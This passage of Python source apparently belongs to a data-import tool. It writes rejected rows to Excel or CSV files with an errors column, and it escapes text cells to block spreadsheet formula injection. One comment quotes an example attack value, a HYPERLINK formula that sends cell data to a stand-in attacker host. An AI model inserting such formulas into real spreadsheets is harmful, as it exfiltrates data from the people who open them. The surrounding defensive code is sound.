                        cells[line.row] = line.values if not isinstance(line, RowProblem) else ()
                out[(path, sheet_name)] = (sheet.header, cells)
    return out


def write_rejected(result: OrganisationResult, path: str | Path, specs: Mapping[str, ImportSpec] | None = None
                   ) -> list[Path]:
    """Write the rejected rows, as they were, with a ``Fouten`` column, to ``path`` (``.xlsx``: one sheet per
    import; ``.csv``: one file per import, ``path`` itself when only one import had rejects). The file can
    be fixed and imported again as it is (the ``Fouten`` column is ignored on import)."""
    from regelwerk.imports.columns import ERRORS_COLUMN

    target = Path(path)
    cells = _rejected_cells(result.rejected)
    by_entity: dict[str, list[Rejected]] = {}
    for item in result.rejected:
        by_entity.setdefault(item.entity, []).append(item)
    label = {e: (specs[e].label if specs else e) for e in ENTITIES}

    def table(entity: str) -> tuple[list[Any], list[list[Any]]]:
        items = by_entity[entity]
        header: list[Any] = []
        body: list[list[Any]] = []
        for item in items:
            sheet_header, rows = cells.get((item.path, item.sheet), ((), {}))
            if not header:
                header = [*sheet_header, ERRORS_COLUMN.capitalize()]
            values = list(rows.get(item.row, ()))
            values += [None] * (len(sheet_header) - len(values))
            body.append([*values[:len(sheet_header)], "; ".join(item.errors)])
        return header, body

    written: list[Path] = []
    if target.suffix.lower() in (".xlsx", ".xlsm"):
        from openpyxl import Workbook
        from openpyxl.cell import WriteOnlyCell

        book = Workbook(write_only=True)

        def as_read(sheet: Any, values: list[Any]) -> list[Any]:
            # a text stays text: openpyxl stores a text that starts with '=' as a formula (found by attack: a
            # name '=HYPERLINK("https://evil.example/?"&B2, "Klik")' in a CSV or a text cell came back as a live
            # formula in the file the administrator opens to fix the rows)
            cells: list[Any] = []
            for value in values:
                if isinstance(value, str):
                    cell = WriteOnlyCell(sheet, value=value)
                    cell.data_type = "s"
                    value = cell
                cells.append(value)
            return cells

        for entity in ENTITIES:
            if entity in by_entity:
                sheet = book.create_sheet(label[entity])
                header, body = table(entity)
                sheet.append(as_read(sheet, header))
                for row in body:
                    sheet.append(as_read(sheet, row))
        book.save(target)
        return [target]
    import csv

    entities = [e for e in ENTITIES if e in by_entity]
    for entity in entities:
        out = target if len(entities) == 1 else target.with_name(f"{label[entity].lower()}-{target.name}")
        header, body = table(entity)
        with out.open("w", encoding="utf-8-sig", newline="") as handle:
            writer = csv.writer(handle, dialect="excel", delimiter=";")
            writer.writerow(["" if h is None else h for h in header])
            for row in body:
                # a text that would start a formula gets Excel's text mark (found by attack, as in the workbook);
                # the reader takes it off again, so the file imports as it was
                writer.writerow(["" if v is None else v.isoformat() if isinstance(v, (date, datetime))
                                 else as_formula_safe(v) if isinstance(v, str) else v for v in row])
        written.append(out)
    return written
